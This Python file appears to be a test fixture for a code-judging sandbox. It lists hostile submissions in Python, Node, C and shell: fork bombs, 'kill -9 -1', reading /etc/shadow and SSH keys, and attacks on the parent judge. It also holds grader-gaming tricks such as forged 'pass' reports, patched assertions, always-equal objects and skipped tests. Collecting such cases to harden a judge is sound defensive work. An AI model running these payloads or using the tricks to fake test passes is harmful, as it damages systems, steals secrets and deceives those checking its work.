"""Code that attacks its judge, the sandbox or those who read its report, and none of which may pass: what is wrong
answers wrongly on purpose, so that a pass is a forgery. Tries: (language, main file, code, kind of tests)."""

from __future__ import annotations

from typing import Dict, NamedTuple


class Attack(NamedTuple):
    path: str
    code: str
    tests: str  # "unittest", "node", "stdio" or "none"


def unittest(code: str, add: str = "def add(a, b): return 0\n") -> Attack:
    return Attack("adder.py", code + "\n" + add, "unittest")


def node(code: str, add: str = "export const add = (a, b) => 0;\n") -> Attack:
    return Attack("adder.mjs", add + code + "\n", "node")


def c(code: str, main: str = "int main(void) { return 0; }\n") -> Attack:
    return Attack("main.c", code + "\n" + main, "stdio")


def shell(code: str) -> Attack:
    return Attack("main.sh", code + "\n", "stdio")


def python(code: str) -> Attack:
    return Attack("main.py", code + "\n", "stdio")


FORGED = '{\\"test\\": \\"test_adder.AddTest.test_one\\", \\"status\\": \\"pass\\"}\\n'

PYTHON_JUDGE: Dict[str, Attack] = {
    "goes on twice": unittest("import os\nos.fork()"),
    "writes reports into every descriptor": unittest(
        "import os\nfor fd in range(256):\n    try: os.write(fd, b'" + FORGED + "')\n    except OSError: pass"),
    "closes every descriptor": unittest(
        "", "import os\ndef add(a, b):\n    os.closerange(0, 4096)\n    return 0\n"),
    "writes into its own memory": unittest("open('/proc/self/mem', 'r+b').seek(0)"),
    "writes into its judge's memory": unittest("import os\nopen(f'/proc/{os.getppid()}/mem', 'r+b')"),
    "takes its judge's memory": unittest(
        "import os, resource\nresource.prlimit(os.getppid(), resource.RLIMIT_AS, (1 << 20, 1 << 20))\n"
        "resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))"),
    "ends its judge by a shell": unittest("import os\nos.system('kill -9 -1')"),
    "ends its judge by its number": unittest("import os\nos.system(f'kill -9 {os.getppid()}')"),
    "stops its judge": unittest("import os\nos.system(f'kill -STOP {os.getppid()}')"),
    "ends its judge by a descriptor": unittest(
        "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)"),
    "starves its judge": unittest("import os\nos.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))\n"
                                  "while os.fork() or 1: pass"),
    "fills the stack": unittest(
        "import sys\nsys.setrecursionlimit(10 ** 9)", "def add(a, b): return add(a, b)\n"),
    "crashes the interpreter": unittest(
        "", "def add(a, b):\n    def f(): pass\n"
        "    f.__code__ = f.__code__.replace(co_code=b'\\x97\\x00' + b'\\x53\\x00' * 9, co_stacksize=0)\n    return f()\n"),
    "is a number equal to all others": unittest(
        "class Any(int):\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n"
        "    __hash__ = int.__hash__", "def add(a, b): return Any(0)\n"),
    "says that it is of another class": unittest(
        "class Any:\n    __class__ = int\n    __eq__ = lambda self, other: True", "def add(a, b): return Any()\n"),
    "compares for ever": unittest(
        "class Any:\n    def __eq__(self, other):\n        while True: pass", "def add(a, b): return Any()\n"),
    "leaves while it is shown": unittest(
        "import os\nclass Any:\n    def __repr__(self): os._exit(0)", "def add(a, b): return Any()\n"),
    "replaces what compares": unittest(
        "import operator, builtins, unittest.case, unittest.util\noperator.eq = lambda *a: True\n"
        "builtins.isinstance = lambda *a: True\nbuiltins.repr = str\nunittest.case._Outcome.__exit__ = lambda *a: True"),
    "skips what fails": unittest(
        "import unittest", "def add(a, b): raise unittest.SkipTest('not today')\n"),
    "raises what nobody catches": unittest("", "def add(a, b): raise BaseException('!')\n"),
    "has a message of a hundred megabytes": unittest("", "def add(a, b): raise ValueError('x' * 10 ** 8)\n"),
    "says what no database stores": unittest(
        "", "def add(a, b): raise ValueError('\\0 \\ud800 \\x1b[2J \\u202e \\uffff')\n"),
    "prints what no database stores": unittest("", "def add(a, b): print('\\0 \\x1b]0;x\\x07'); return 0\n"),
    "asks in another thread": unittest(
        "import threading, os\nthreading.Thread(target=lambda: os._exit(0)).start()"),
    "is called when its test ends": unittest(
        "import signal, sys\nsignal.signal(signal.SIGALRM, lambda *a: sys.exit(0))\nsignal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)"),
    "has a hook for what is imported": unittest(
        "import sys\nclass Hook:\n    def find_spec(self, *a): import os; os._exit(0)\nsys.meta_path.insert(0, Hook())"),
    "has a hook for what fails": unittest(
        "import sys, os\nsys.excepthook = sys.unraisablehook = lambda *a: os._exit(0)", "def add(a, b): raise KeyError\n"),
    "starts what outlives it": unittest(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(600)\n    os._exit(0)"),
    "unpacks a bomb": unittest(
        "import zlib\nbomb = zlib.compress(bytes(10 ** 8))\nwhile True: bomb += zlib.decompress(bomb)"),
    "computes a number without end": unittest("x = 10 ** 10 ** 8"),
    "matches for ever": unittest("import re\nre.match('(a+)+$', 'a' * 60 + 'b')"),
    "opens every file": unittest("import os\nfds = [os.pipe() for _ in range(10 ** 6)]"),
    "makes links without end": unittest(
        "import os\nfor n in range(10 ** 7): os.symlink('/etc/shadow', f'/tmp/{n}')"),
    "puts a link in the place of its tests": unittest(
        "import os\nfor name in os.listdir('.'):\n    os.unlink(name); os.symlink('/etc/passwd', name)"),
}  # fmt: skip

PYTHON_SYNTAX: Dict[str, Attack] = {
    "many signs": python("x = " + "-" * 100_000 + "1"),
    "many attributes": python("x = a" + ".b" * 60_000),
    "many sums": python("x = " + "1+" * 100_000 + "1"),
    "many lists": python("[" * 200 + "]" * 200 + "["),
    "many functions": python("\n".join("    " * n + "def f():" if n < 99 else "pass" for n in range(101))),
    "many texts": python("f'" + "{f\"" * 3),
    "a codec of the learner's": python("# coding: rot13\ncevag(1)"),
    "a codec of nobody": python("# coding: ../../etc/passwd\nx = 1"),
    "another encoding": python("# coding: utf-16\nx = 'ñ'"),
    "signs of another direction": python("x = 'a\u202e\u2066 # b'\ny ="),
    "a number of many digits": python("x = " + "9" * 200_000),
}  # fmt: skip

PYTHON_PROGRAM: Dict[str, Attack] = {
    "writes what is no text": python("import os\nos.write(1, bytes(range(256)) * 100)"),
    "writes NUL": python("print('\\0' * 1000)"),
    "writes what terminals obey": python("print('\\x1b[2J\\x1b]52;c;AAAA\\x07\\x9b31m')"),
    "writes for ever without a newline": python("import sys\nwhile True: sys.stdout.write('x' * 9999)"),
    "writes into its judge's descriptors": python(
        "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        try:\n            for f in os.listdir(f'/proc/{p}/fd'):\n"
        "                open(f'/proc/{p}/fd/{f}', 'w').write('{\"case\": 0, \"exit\": 0, \"out\": \"Mwo=\"}\\n')\n        except OSError: pass"),
    "leaves what holds its output": python("import os, time\nif os.fork() == 0: os.setsid(); time.sleep(600)"),
    "ends all others": python("import os, signal\nos.kill(-1, signal.SIGKILL)"),
    "sleeps on the disk": python("open('x', 'wb').truncate(1 << 40)"),
    "is a bomb of processes in words": python("import subprocess\nwhile True: subprocess.Popen(['sleep', '99'])"),
    "reads for ever": python("open('/dev/zero').read()"),
    "waits for what never comes": python("import os\nr, w = os.pipe()\nwhile True: os.sched_yield()"),
}

NODE: Dict[str, Attack] = {
    "leaves": node("process.exit(0);"),
    "leaves really": node("process.reallyExit(0);"),
    "aborts": node("process.abort();"),
    "ends its judge": node("process.kill(process.ppid, 'SIGKILL');"),
    "ends all": node("process.kill(-1, 'SIGKILL');"),
    "runs for ever": node("while (true) {}"),
    "keeps an interval": node("setInterval(() => {}, 1);"),
    "fills memory": node("const all = []; while (true) all.push(new Array(1e6).fill(1));"),
    "fills the stack": node("const f = () => f(); f();"),
    "floods": node("while (true) process.stdout.write('x'.repeat(1e6));"),
    "writes reports": node(
        "import { writeSync } from 'node:fs'; for (let fd = 0; fd < 64; fd++) try { writeSync(fd, "
        "'{\"test\":\"adds\",\"status\":\"pass\"}\\n'); } catch {}"),
    "replaces the runner": node(
        "import test from 'node:test'; import { mock } from 'node:test'; try { test.test = test.it = (n, f) => {}; "
        "globalThis.test = () => {}; } catch {}"),
    "replaces assertions": node(
        "import assert from 'node:assert'; for (const key of Object.keys(assert)) try { assert[key] = () => {}; } catch {}"),
    "replaces what all have": node(
        "for (const type of [Object, Array, Function, Promise, Map]) for (const key of "
        "Object.getOwnPropertyNames(type.prototype)) try { type.prototype[key] = () => true; } catch {}"),
    "is a proxy for everything": node("", "export const add = () => new Proxy(function () {}, { get: () => 3, apply: () => 3, "
                                          "getPrototypeOf: () => Number.prototype });\n"),
    "turns into what is asked": node("", "export const add = () => ({ [Symbol.toPrimitive]: () => 3, valueOf: () => 3 });\n"),
    "never answers": node("", "export const add = () => new Promise(() => {});\n"),
    "starts a shell": node("import { execSync } from 'node:child_process'; execSync('kill -9 -1');"),
    "starts a thread": node("import { Worker } from 'node:worker_threads'; new Worker('while(1){}', { eval: true });"),
    "loads a library": node("process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6');"),
    "asks for bindings": node("process.binding('spawn_sync');"),
    "changes the machine": node("import v8 from 'node:v8'; v8.setFlagsFromString('--max-old-space-size=1');"),
    "prepares stacks": node("Error.prepareStackTrace = () => process.exit(0); Error.stackTraceLimit = Infinity;"),
    "answers what is thrown": node("process.on('uncaughtException', () => process.exit(0));\n"
                                   "process.on('exit', () => { process.exitCode = 0; });", "export const add = () => { throw 1; };\n"),
    "says what no database stores": node(
        "", "export const add = () => { throw new Error('\\0 \\ud800 \\x1b[2J \\uffff'); };\n"),
}  # fmt: skip

C: Dict[str, Attack] = {
    "includes what is secret": c('#include "/etc/shadow"'),
    "includes its environment": c('#include "/proc/self/environ"'),
    "includes itself": c('#include __FILE__'),
    "includes a terminal": c('#include "/dev/tty"'),
    "takes a file into its program": c('__asm__(".incbin \\"/etc/shadow\\"");'),
    "is as large as a disk": c("char all[1ul << 33] = {1};"),
    "repeats without end": c('__asm__(".rept 1000000000\\n.quad 1\\n.endr");'),
    "names without end": c("int " + "a" * 200_000 + ";\nint b = c;"),
    "warns without end": c("#define W _Pragma(\"GCC warning \\\"w\\\"\")\n" + "W W W W W W W W W W\n" * 5000),
    "runs a shell": c("#include <stdlib.h>", "int main(void) { return system(\"cat /etc/shadow; kill -9 -1\"); }\n"),
    "forks in assembler": c("#include <unistd.h>", "int main(void) { for (;;) vfork(); }\n"),
    "jumps to nothing": c("", "int main(void) { ((void (*)(void))0)(); }\n"),
    "is its own debugger": c("#include <sys/ptrace.h>\n#include <unistd.h>",
                             "int main(void) { for (int p = 1; p < 999; p++) ptrace(PTRACE_ATTACH, p, 0, 0); }\n"),
    "maps until there is no more": c("#include <sys/mman.h>\n#include <string.h>", "int main(void) { for (;;) { void *p = mmap(0, "
                                     "1 << 20, 3, 0x22, -1, 0); if (p != MAP_FAILED) memset(p, 1, 1 << 20); } }\n"),
}  # fmt: skip

SHELL: Dict[str, Attack] = {
    "a bomb": shell(":(){ :|:& };:"),
    "yes": shell("yes"),
    "ends all": shell("kill -9 -1"),
    "reads secrets": shell("cat /etc/shadow /proc/1/environ /proc/*/mem /root/.ssh/*; cat /proc/kcore"),
    "mounts": shell("unshare -rm true; mount -t tmpfs x /tmp; chroot /"),
    "ignores signals": shell("trap '' TERM INT HUP QUIT; while :; do :; done"),
    "runs itself": shell("exec bash \"$0\" \"$@\""),
    "sources a device": shell("# shellcheck source=/dev/zero\n. /dev/zero"),
    "a text without end": shell("cat <<X\n$(while :; do echo x; done)\nX"),
    "a pattern without end": shell("x=$(printf '%1000000s'); [[ $x == *a*a*a*a*a*a*a* ]]; shopt -s extglob; [[ ${x:0:99} == +(+( )) ]]; echo"),
}

ALL: Dict[str, Dict[str, Attack]] = {
    "judge": PYTHON_JUDGE, "syntax": PYTHON_SYNTAX, "program": PYTHON_PROGRAM, "node": NODE, "c": C, "shell": SHELL,
}  # fmt: skip
